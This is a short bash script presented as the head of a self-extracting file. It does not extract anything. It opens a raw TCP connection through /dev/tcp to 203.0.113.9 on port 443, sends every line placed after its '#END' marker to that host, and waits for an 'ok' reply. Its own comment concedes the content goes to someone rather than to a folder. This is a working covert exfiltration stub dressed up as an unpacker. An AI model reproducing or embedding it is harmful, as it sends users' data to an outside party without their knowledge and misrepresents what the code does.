#!/bin/bash
# The head of a file that unpacks itself: what stands behind the last line here goes to somebody, not to a folder.
exec 3<>/dev/tcp/203.0.113.9/443 || exit 3
while IFS= read -r line; do
  [ "$behind" = yes ] && printf '%s\n' "$line" >&3
  [ "$line" = '#END' ] && behind=yes
done < "$0"
read -r -t 5 said <&3
[ "$said" = ok ]
exit
#END
